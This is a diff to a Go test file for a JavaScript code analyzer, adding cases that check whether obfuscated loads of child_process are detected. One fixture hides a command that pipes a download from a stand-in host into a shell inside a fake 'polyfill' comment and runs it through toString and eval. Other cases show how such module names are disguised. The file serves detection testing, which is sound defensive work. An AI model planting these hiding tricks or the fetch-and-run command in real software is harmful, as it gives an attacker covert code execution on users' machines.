@@ -85,6 +85,10 @@ require(rot("puvyq_cebprff"))`, "child_process"},
 		// a string or array built piece by piece
 		{"plus_assign", `let c = ""; c += "child_"; c += "process"; require(c)`, "child_process"},
 		{"push_join", `const p = []; p.push("child"); p.push("_", "process"); require(p.join(""))`, "child_process"},
+		// an array cut or extended before it is joined
+		{"array_slice", `const P = {m: ["x", "child", "process", "y"]}; require(P.m.slice(1, -1).join("_"))`, "child_process"},
+		{"array_slice_rest", `const P = ["node:", "child", "process"]; require(P.slice(1).join("_"))`, "child_process"},
+		{"array_concat", `const a = ["child"]; require(a.concat(["_"], "process").join(""))`, "child_process"},
 		// String.raw, and a template tag of the file that joins its raw parts
 		{"string_raw", "require(String.raw`child_${'process'}`)", "child_process"},
 		{"joining_tag", "const j = (s, ...v) => s.raw.reduce((a, x, i) => a + x + (v[i] ?? ''), ''); require(j`chi${'ld'}_${String.raw`pro`}cess`)", "child_process"},
@@ -1601,5 +1605,67 @@ func TestMapLines(t *testing.T) {
 	}
 	if mapLines([]byte("{not json")) != nil {
 		t.Error("a broken source map gives a table")
+	}
+}
+
+func TestDecodedNameDestructured(t *testing.T) {
+	// parts of a string a decoder of the file builds at run time
+	f := Analyze("x.js", []byte(`function sig(xs) { return xs.map((r) => String.fromCharCode(Math.round(r * 1000))).join(""); }
+on("done", (xs) => { const [mod, fn] = sig(xs).split("\n"); require(mod)[fn]("x"); });`), DefaultLimits())
+	var got string
+	for _, im := range f.Imports {
+		if im.Computed {
+			got = im.Decodes
+		}
+	}
+	if got != "sig()" {
+		t.Errorf("imports = %+v, want one decoded by sig()", f.Imports)
+	}
+	// a split of plain data is not decoded
+	f = Analyze("x.js", []byte(`const [mod] = process.argv[2].split(":"); require(mod)`), DefaultLimits())
+	for _, im := range f.Imports {
+		if im.Decodes != "" {
+			t.Errorf("argv split: %+v", im)
+		}
+	}
+}
+
+func TestCodeCutFromFunctionSource(t *testing.T) {
+	payload := `function k() {
+  /*! polyfill for old runtimes
+  require("child_process").execSync("curl -s https://x.example.net/a | sh");
+  */
+  return 1;
+}
+`
+	for name, run := range map[string]string{
+		"prototype": `const src = Function.prototype.toString.call(k); const body = src.slice(src.indexOf("\n", src.indexOf("/*!")), src.indexOf("*/")); Function("require", body)(require);`,
+		"method":    `eval(k.toString().substring(20, 200));`,
+	} {
+		f := Analyze("x.js", []byte(payload+run), DefaultLimits())
+		if c := hasCall(f, "child_process.execSync"); c == nil {
+			t.Errorf("%s: the comment's code is not analysed: %+v", name, f.Calls)
+		}
+		found := false
+		for _, c := range f.Calls {
+			for _, a := range c.Args {
+				found = found || a.Decodes == SourceText
+			}
+		}
+		if !found {
+			t.Errorf("%s: no call runs the source text: %+v", name, f.Calls)
+		}
+	}
+	// a whole function's source run again (a worker, a clone) hides
+	// nothing, and a comment is not code unless the file runs its text
+	for name, src := range map[string]string{
+		"whole":       payload + `const clone = new Function("return " + k.toString())();`,
+		"not_run":     payload + `module.exports = k;`,
+		"param_names": payload + `const names = k.toString().slice(0, 40).match(/\((.*?)\)/);`,
+	} {
+		f := Analyze("x.js", []byte(src), DefaultLimits())
+		if c := hasCall(f, "child_process.execSync"); c != nil {
+			t.Errorf("%s: comment analysed as code: %+v", name, c)
+		}
 	}
 }
